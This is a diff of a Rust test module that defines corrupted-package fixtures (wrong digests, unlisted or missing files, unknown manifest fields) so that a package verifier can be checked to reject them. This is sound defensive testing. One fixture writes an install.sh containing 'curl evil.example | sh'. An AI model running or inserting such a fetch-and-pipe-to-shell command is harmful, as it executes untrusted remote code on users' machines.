@@ -1,97 +1,59 @@
 //! File lists that do not match the files.
 
-use serde_json::{Value, json};
-
-use super::base::{Base, Entry, Spoilt};
+use super::base::{Base, Entry, Spoilt, spoilt};
+use crate::prelude::*;
 
 pub const ALL: &[Spoilt] = &[
-    Spoilt {
-        name: "one byte of a file is another one",
-        code: "package.digest-wrong",
-        place: "LICENSE",
-        make: |b| {
-            let mut file = b.files["LICENSE"].clone();
-            file[0] ^= 1;
-            b.swapped("LICENSE", file)
-        },
-    },
-    Spoilt {
-        name: "a longer file",
-        code: "package.size-wrong",
-        place: "LICENSE",
-        make: |b| b.swapped("LICENSE", "Pay me, and pay me again."),
-    },
-    Spoilt {
-        name: "another component under the signature of the good one",
-        code: "package.digest-wrong",
-        place: "component.wasm",
-        make: |b| {
+    spoilt("one byte of a file is another one", "package.digest-wrong", "LICENSE", |b| {
+        let mut file = b.files["LICENSE"].clone();
+        file[0] ^= 1;
+        b.swapped("LICENSE", file)
+    }),
+    spoilt("a longer file", "package.size-wrong", "LICENSE", |b| {
+        b.swapped("LICENSE", "Pay me, and pay me again.")
+    }),
+    spoilt(
+        "another component under the signature of the good one",
+        "package.digest-wrong",
+        "component.wasm",
+        |b| {
             let mut component = b.files["component.wasm"].clone();
             let last = component.len() - 1;
             component[last] ^= 1;
             b.swapped("component.wasm", component)
         },
-    },
-    Spoilt {
-        name: "a file that nobody listed",
-        code: "package.file-unlisted",
-        place: "LICENSE-EVIL",
-        make: |b| b.and("LICENSE-EVIL"),
-    },
-    Spoilt {
-        name: "a listed file that is not there",
-        code: "package.file-absent",
-        place: "LICENSE",
-        make: |b| b.archived(|entries| entries.retain(|entry| entry.name != b"LICENSE")),
-    },
-    Spoilt {
-        name: "a list with the digest of nothing",
-        code: "package.digest-wrong",
-        place: "LICENSE",
-        make: |b| listed(b, |list| list["files"]["LICENSE"]["sha256"] = json!("")),
-    },
-    Spoilt {
-        name: "a list that lists itself",
-        code: "package.size-wrong",
-        place: "manifest.json",
-        make: |b| listed(b, |list| list["files"]["manifest.json"] = json!({ "bytes": 1, "sha256": "00" })),
-    },
-    Spoilt {
-        name: "a list with more to say than lists have",
-        code: "package.field-unknown",
-        place: "manifest.json: level",
-        make: |b| listed(b, |list| list["level"] = json!("official")),
-    },
-    Spoilt {
-        name: "a list of another format",
-        code: "package.format-unknown",
-        place: "manifest.json",
-        make: |b| listed(b, |list| list["format"] = json!(2)),
-    },
-    Spoilt {
-        name: "no list at all",
-        code: "package.file-missing",
-        place: "manifest.json",
-        make: |b| b.archived(|entries| entries.retain(|entry| entry.name != b"manifest.json")),
-    },
-    Spoilt {
-        name: "a program beside the component",
-        code: "package.file-unknown",
-        place: "install.sh",
-        make: |b| b.with_file("install.sh", "curl evil.example | sh"),
-    },
-    Spoilt {
-        name: "compiled code in the place of a component",
-        code: "package.file-unknown",
-        place: "component.cwasm",
-        make: |b| b.with_file("component.cwasm", "\u{7f}ELF"),
-    },
-    Spoilt {
-        name: "a component and a template, of which reviewers see one",
-        code: "package.program-twice",
-        place: "template.toml",
-        make: |b| b.with_file("template.toml", "name = {}"),
-    },
+    ),
+    spoilt("a file that nobody listed", "package.file-unlisted", "LICENSE-EVIL", |b| b.and("LICENSE-EVIL")),
+    spoilt("a listed file that is not there", "package.file-absent", "LICENSE", |b| {
+        b.archived(|entries| entries.retain(|entry| entry.name != b"LICENSE"))
+    }),
+    spoilt("a list with the digest of nothing", "package.digest-wrong", "LICENSE", |b| {
+        listed(b, |list| list["files"]["LICENSE"]["sha256"] = json!(""))
+    }),
+    spoilt("a list that lists itself", "package.size-wrong", "manifest.json", |b| {
+        listed(b, |list| list["files"]["manifest.json"] = json!({ "bytes": 1, "sha256": "00" }))
+    }),
+    spoilt("a list with more to say than lists have", "package.field-unknown", "manifest.json: level", |b| {
+        listed(b, |list| list["level"] = json!("official"))
+    }),
+    spoilt("a list of another format", "package.format-unknown", "manifest.json", |b| {
+        listed(b, |list| list["format"] = json!(2))
+    }),
+    spoilt("no list at all", "package.file-missing", "manifest.json", |b| {
+        b.archived(|entries| entries.retain(|entry| entry.name != b"manifest.json"))
+    }),
+    spoilt("a program beside the component", "package.file-unknown", "install.sh", |b| {
+        b.with_file("install.sh", "curl evil.example | sh")
+    }),
+    spoilt("compiled code in the place of a component", "package.file-unknown", "component.cwasm", |b| {
+        b.with_file("component.cwasm", "\u{7f}ELF")
+    }),
+    spoilt(
+        "a component and a template, of which reviewers see one",
+        "package.program-twice",
+        "template.toml",
+        |b| b.with_file("template.toml", "name = {}"),
+    ),
 ];
 
 /// With a changed list, which the signature does not cover.
